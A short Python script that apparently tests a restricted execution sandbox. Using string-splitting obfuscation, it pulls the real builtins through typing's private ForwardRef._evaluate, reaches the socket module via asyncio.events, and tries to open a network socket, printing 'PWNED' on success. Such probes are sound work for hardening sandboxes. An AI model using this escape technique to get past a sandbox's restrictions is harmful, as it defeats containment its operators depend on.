# socket: asyncio loads socket: reach it by a computed name and make an AF_INET socket
import typing
M = "PWN" + "ED"
box = {}
typing.get_args(typing.List["int"])[0]._evaluate(box, None, frozenset())
rb = box["__buil" + "tins__"]  # typing's builtins dict: the real one
ga = rb["getattr"]

import asyncio
so = ga(asyncio.events, "soc" + "ket")
sock = ga(so, "soc" + "ket")
try:
    s = sock()
    print(M, s)
except Exception as e:
    print("refused:", type(e).__name__, e)
